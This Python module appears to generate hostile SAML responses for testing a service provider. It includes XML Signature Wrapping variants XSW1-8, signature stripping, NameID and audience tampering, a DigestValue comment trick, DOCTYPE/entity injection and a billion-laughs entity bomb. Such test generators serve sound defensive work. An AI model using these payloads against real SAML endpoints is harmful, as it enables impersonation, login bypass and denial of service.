"""Hostile SAML responses: XML Signature Wrapping (SAML Raider's XSW1-8 DOM steps), signature
stripping and spoofing, tampering, bundling, and raw-bytes attacks (DTD, entities, comments).
Each function takes freshly built, signed lxml trees and returns the hostile Response (an lxml
element or bytes)."""
import copy
import uuid

from lxml import etree

from .idp import DS, SAML, SAMLP, sign, to_bytes

EVIL_NAME = 'bob@acme.example'


def _q(ns, tag):
    return f'{{{ns}}}{tag}'


def first(el, ns, tag):
    return next(el.iter(_q(ns, tag)))


def assertion_of(resp):
    return resp.find(_q(SAML, 'Assertion'))


def own_signature(el):
    return el.find(_q(DS, 'Signature'))


def strip_sig(el):
    s = own_signature(el)
    if s is not None:
        el.remove(s)
    return el


def set_nameid(el, name):
    first(el, SAML, 'NameID').text = name
    for av in el.iter(_q(SAML, 'AttributeValue')):
        if '@' in (av.text or ''):
            av.text = name


def evil_id(prefix):
    return f'_evil_{prefix}_{uuid.uuid4().hex[:8]}'


# --- XSW on a signed Response (S01, S02) -------------------------------------------------

def xsw1(resp):
    """Clone (unsigned) appended inside the original Signature; the root turns evil."""
    clone = strip_sig(copy.deepcopy(resp))
    sig = own_signature(resp)
    sig.append(clone)
    resp.set('ID', evil_id('response'))
    set_nameid(assertion_of(resp), EVIL_NAME)
    return resp


def xsw2(resp):
    """As XSW1, but the clone is the Signature's previous sibling (detached shape)."""
    clone = strip_sig(copy.deepcopy(resp))
    sig = own_signature(resp)
    sig.addprevious(clone)
    resp.set('ID', evil_id('response'))
    set_nameid(assertion_of(resp), EVIL_NAME)
    return resp


# --- XSW on a signed Assertion (S03-S08) -------------------------------------------------

def xsw3(resp):
    a = assertion_of(resp)
    evil = strip_sig(copy.deepcopy(a))
    evil.set('ID', evil_id('assertion'))
    set_nameid(evil, EVIL_NAME)
    a.addprevious(evil)
    return resp


def xsw4(resp):
    a = assertion_of(resp)
    evil = strip_sig(copy.deepcopy(a))
    evil.set('ID', evil_id('assertion'))
    set_nameid(evil, EVIL_NAME)
    resp.remove(a)
    evil.append(a)
    resp.append(evil)
    return resp


def xsw5(resp):
    a = assertion_of(resp)
    orig = strip_sig(copy.deepcopy(a))
    a.set('ID', evil_id('assertion'))
    set_nameid(a, EVIL_NAME)
    resp.append(orig)
    return resp


def xsw6(resp):
    a = assertion_of(resp)
    orig = strip_sig(copy.deepcopy(a))
    a.set('ID', evil_id('assertion'))
    set_nameid(a, EVIL_NAME)
    own_signature(a).append(orig)
    return resp


def xsw7(resp):
    a = assertion_of(resp)
    evil = strip_sig(copy.deepcopy(a))
    set_nameid(evil, EVIL_NAME)
    ext = etree.Element(_q(SAMLP, 'Extensions'))
    ext.append(evil)
    a.addprevious(ext)
    return resp


def xsw8(resp):
    a = assertion_of(resp)
    orig = strip_sig(copy.deepcopy(a))
    set_nameid(a, EVIL_NAME)
    obj = etree.SubElement(own_signature(a), _q(DS, 'Object'))
    obj.append(orig)
    return resp


XSW_RESPONSE = {'XSW1': xsw1, 'XSW2': xsw2}
XSW_ASSERTION = {'XSW3': xsw3, 'XSW4': xsw4, 'XSW5': xsw5, 'XSW6': xsw6, 'XSW7': xsw7, 'XSW8': xsw8}


# --- other signature attacks ---------------------------------------------------------------

def strip_all(resp):
    """S09: every Signature removed, NameID edited."""
    for s in list(resp.iter(_q(DS, 'Signature'))):
        s.getparent().remove(s)
    set_nameid(resp, EVIL_NAME)
    return resp


def tamper_nameid(resp):
    set_nameid(assertion_of(resp), EVIL_NAME)
    return resp


def tamper_audience(resp):
    first(resp, SAML, 'Audience').text += 'x'
    return resp


def tamper_not_on_or_after(resp):
    c = first(resp, SAML, 'Conditions')
    v = c.get('NotOnOrAfter')
    c.set('NotOnOrAfter', v[:2] + str((int(v[2:4]) + 1) % 100).zfill(2) + v[4:])
    return resp


def signature_into_subject(resp):
    """S18: the Assertion's Signature moved into Subject (not enveloped by its parent)."""
    a = assertion_of(resp)
    s = own_signature(a)
    a.remove(s)
    first(a, SAML, 'Subject').append(s)
    return resp


def digest_comment(resp, alter=True):
    """S25: a comment inside DigestValue (and, with alter, changed signed content)."""
    dv = first(own_signature(assertion_of(resp)), DS, 'DigestValue')
    text = dv.text
    dv.text = text[:4]
    c = etree.Comment('x')
    dv.append(c)
    c.tail = text[4:]
    if alter:
        set_nameid(assertion_of(resp), EVIL_NAME)
    return resp


def bytes_replace(resp, old, new):
    data = to_bytes(resp)
    assert old.encode() in data, old
    return data.replace(old.encode(), new.encode(), 1)


# --- raw XML attacks (X01-X04) ---------------------------------------------------------------

def with_doctype(resp, doctype, name_ref=None, nameid=None):
    """Prepend a DOCTYPE; optionally replace the NameID text by an entity reference."""
    data = to_bytes(resp)
    if name_ref:
        data = data.replace(f'>{nameid}</saml:NameID>'.encode(), f'>{name_ref}</saml:NameID>'.encode(), 1)
    return doctype.encode() + data


def billion_laughs():
    ents = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = 'lol' if i == 1 else f'lol{i - 1}'
        ents.append(f'<!ENTITY lol{i} "' + f'&{prev};' * 10 + '">')
    return '<!DOCTYPE samlp:Response [' + ''.join(ents) + ']>'
